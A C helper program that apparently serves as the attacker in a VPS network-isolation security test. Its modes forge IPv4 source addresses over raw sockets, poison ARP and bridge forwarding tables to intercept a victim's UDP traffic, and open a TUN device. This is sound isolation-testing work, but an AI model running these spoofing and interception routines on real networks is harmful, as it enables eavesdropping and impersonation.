/*
 * The attacker of test/security/vps-network.test.ts, run as root inside a VPS (static, no libc
 * beyond what -static brings). Each mode prints one result line the test reads.
 *
 *   udp SRC DST PORT TEXT     send 20 UDP datagrams with a forged IPv4 source (raw socket,
 *                             IP_HDRINCL): "sent N" or "socket: <errno name>"
 *   mitm VICTIM_IP MAC PORT S for S seconds, claim VICTIM_IP on the bridge with ARP replies
 *                             (MAC "self": ARP poisoning with our own MAC; else that MAC as the
 *                             frame's source too: bridge FDB poisoning), and watch (packet socket)
 *                             for UDP to VICTIM_IP:PORT: "intercepted <payload>" or "nothing"
 *   send DST PORT TEXT        send 10 UDP datagrams from an ordinary socket (the kernel picks
 *                             the source: whatever address the VPS has): "sent N" or "<step>: <errno>"
 *   listen PORT S             (host side, in a test namespace) print every UDP payload received
 *                             on PORT for S seconds, one "got <payload>" line each
 *   tun                       open /dev/net/tun (mknod it in /tmp if missing) and TUNSETIFF:
 *                             "tun ok", or "<step>: <errno name>"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case EINVAL: return "EINVAL";
    case ENODEV: return "ENODEV";
    default: return strerror(e);
    }
}

static uint16_t csum(const void *p, size_t n) {
    const uint16_t *w = p;
    uint32_t s = 0;
    for (; n > 1; n -= 2) s += *w++;
    if (n) s += *(const uint8_t *)w;
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static int64_t now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int udp_forged(const char *src, const char *dst, int port, const char *text) {
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);   /* implies IP_HDRINCL */
    if (s < 0) { printf("socket: %s\n", ename(errno)); return 0; }
    unsigned char pkt[1500];
    size_t len = strlen(text);
    if (len > 1000) len = 1000;
    struct iphdr *ip = (struct iphdr *)pkt;
    struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
    memset(pkt, 0, sizeof pkt);
    memcpy(pkt + sizeof *ip + sizeof *udp, text, len);
    ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((uint16_t)(sizeof *ip + sizeof *udp + len));
    inet_pton(AF_INET, src, &ip->saddr);
    inet_pton(AF_INET, dst, &ip->daddr);
    ip->check = csum(ip, sizeof *ip);
    udp->source = htons(40000); udp->dest = htons((uint16_t)port);
    udp->len = htons((uint16_t)(sizeof *udp + len));
    udp->check = 0;   /* optional for IPv4 */
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = ip->daddr };
    int sent = 0;
    for (int i = 0; i < 20; i++) {
        if (sendto(s, pkt, sizeof *ip + sizeof *udp + len, 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
        usleep(50000);
    }
    printf("sent %d\n", sent);
    return 0;
}

static int udp_plain(const char *dst, int port, const char *text) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) { printf("socket: %s\n", ename(errno)); return 0; }
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    inet_pton(AF_INET, dst, &to.sin_addr);
    int sent = 0;
    for (int i = 0; i < 10; i++) {
        if (sendto(s, text, strlen(text), 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
        else printf("sendto: %s\n", ename(errno));
        usleep(50000);
    }
    printf("sent %d\n", sent);
    return 0;
}

static int parse_mac(const char *t, unsigned char m[6]) {
    return sscanf(t, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6 ? 0 : -1;
}

static int mitm(const char *victim, const char *mac_arg, int port, int seconds) {
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (s < 0) { printf("socket: %s\n", ename(errno)); return 0; }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(s, SIOCGIFINDEX, &ifr) != 0) { printf("ifindex: %s\n", ename(errno)); return 0; }
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) != 0) { printf("hwaddr: %s\n", ename(errno)); return 0; }
    unsigned char self[6], claim[6];
    memcpy(self, ifr.ifr_hwaddr.sa_data, 6);
    if (strcmp(mac_arg, "self") == 0) memcpy(claim, self, 6);
    else if (parse_mac(mac_arg, claim) != 0) { printf("bad mac\n"); return 0; }
    struct in_addr vip;
    inet_pton(AF_INET, victim, &vip);

    /* Gratuitous ARP reply, broadcast: "VICTIM is at CLAIM", sent from CLAIM. */
    unsigned char arp[42];
    memset(arp, 0xff, 6);
    memcpy(arp + 6, claim, 6);
    arp[12] = 0x08; arp[13] = 0x06;
    unsigned char body[28] = { 0, 1, 8, 0, 6, 4, 0, 2 };
    memcpy(body + 8, claim, 6);
    memcpy(body + 14, &vip, 4);
    memset(body + 18, 0xff, 6);
    memcpy(body + 24, &vip, 4);
    memcpy(arp + 14, body, 28);
    struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };
    memset(to.sll_addr, 0xff, 6);

    int64_t end = now_ms() + (int64_t)seconds * 1000, next_arp = 0;
    unsigned char buf[2048];
    while (now_ms() < end) {
        if (now_ms() >= next_arp) {
            if (sendto(s, arp, sizeof arp, 0, (struct sockaddr *)&to, sizeof to) < 0) { printf("send: %s\n", ename(errno)); return 0; }
            next_arp = now_ms() + 100;
        }
        struct pollfd pf = { s, POLLIN, 0 };
        if (poll(&pf, 1, 20) <= 0) continue;
        ssize_t n = recv(s, buf, sizeof buf, MSG_DONTWAIT);
        if (n < 14 + 20 + 8 || buf[12] != 0x08 || buf[13] != 0x00) continue;
        struct iphdr *ip = (struct iphdr *)(buf + 14);
        if (ip->daddr != vip.s_addr || ip->protocol != IPPROTO_UDP) continue;
        struct udphdr *udp = (struct udphdr *)(buf + 14 + ip->ihl * 4);
        if (ntohs(udp->dest) != port) continue;
        const char *payload = (const char *)udp + sizeof *udp;
        int plen = (int)(n - ((const unsigned char *)payload - buf));
        printf("intercepted %.*s\n", plen > 0 ? plen : 0, payload);
        return 0;
    }
    printf("nothing\n");
    return 0;
}

static int listen_udp(int port, int seconds) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) != 0) { printf("bind: %s\n", ename(errno)); return 1; }
    printf("listening\n");
    fflush(stdout);
    int64_t end = now_ms() + (int64_t)seconds * 1000;
    char buf[2048];
    while (now_ms() < end) {
        struct pollfd pf = { s, POLLIN, 0 };
        if (poll(&pf, 1, 50) <= 0) continue;
        ssize_t n = recv(s, buf, sizeof buf - 1, 0);
        if (n > 0) { printf("got %.*s\n", (int)n, buf); fflush(stdout); }
    }
    return 0;
}

static int tun(void) {
    const char *path = "/dev/net/tun";
    int fd = open(path, O_RDWR);
    if (fd < 0 && errno == ENOENT) {
        path = "/tmp/tun-node";
        unlink(path);
        if (mknod(path, S_IFCHR | 0600, makedev(10, 200)) != 0) { printf("mknod: %s\n", ename(errno)); return 0; }
        fd = open(path, O_RDWR);
    }
    if (fd < 0) { printf("open: %s\n", ename(errno)); return 0; }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    ifr.ifr_flags = IFF_TUN | IFF_NO_PI;
    strcpy(ifr.ifr_name, "rbtun0");
    if (ioctl(fd, TUNSETIFF, &ifr) != 0) { printf("TUNSETIFF: %s\n", ename(errno)); return 0; }
    printf("tun ok\n");
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 6 && strcmp(argv[1], "udp") == 0) return udp_forged(argv[2], argv[3], atoi(argv[4]), argv[5]);
    if (argc == 6 && strcmp(argv[1], "mitm") == 0) return mitm(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]));
    if (argc == 5 && strcmp(argv[1], "send") == 0) return udp_plain(argv[2], atoi(argv[3]), argv[4]);
    if (argc == 4 && strcmp(argv[1], "listen") == 0) return listen_udp(atoi(argv[2]), atoi(argv[3]));
    if (argc == 2 && strcmp(argv[1], "tun") == 0) return tun();
    fprintf(stderr, "usage: see the comment at the top\n");
    return 2;
}
